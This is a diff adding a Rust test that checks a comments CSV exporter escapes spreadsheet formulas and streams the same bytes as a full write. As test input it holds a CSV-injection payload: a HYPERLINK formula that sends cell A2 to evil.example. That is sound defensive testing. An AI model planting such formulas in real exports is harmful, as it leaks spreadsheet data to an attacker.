@@ -435,3 +435,32 @@ fn other_streams_and_malformed_entries_never_panic() {
         }
     )));
 }
+
+#[test]
+fn the_csv_makes_formulas_text_and_streams_the_same_bytes() {
+    let rows = rows();
+    let c1 = row(&rows, CONSULTATIONS, "C1").clone();
+    let mut texts: comments_csv::Texts = every_text()
+        .into_iter()
+        .map(|(n, t)| (("C1".to_owned(), n), t))
+        .collect();
+    let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Voir\")";
+    texts.insert(("C1".to_owned(), 1), formula.to_owned());
+    let whole = comments_csv::write(std::slice::from_ref(&c1), &texts).unwrap();
+    let mut reader = csv::Reader::from_reader(whole.as_slice());
+    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let col = |name: &str| {
+        comments_csv::COLUMNS
+            .iter()
+            .position(|c| *c == name)
+            .unwrap()
+    };
+    assert_eq!(records[0][col("text")], format!("'{formula}"));
+    assert_eq!(&records[0][col("comment_number")], "1");
+    // Header, then the comments one at a time: the same bytes as the whole document.
+    let mut pieces = comments_csv::header().unwrap();
+    for comment in consultations::comment_rows(&c1) {
+        pieces.extend(comments_csv::rows(&c1, &[comment], &texts).unwrap());
+    }
+    assert_eq!(pieces, whole);
+}
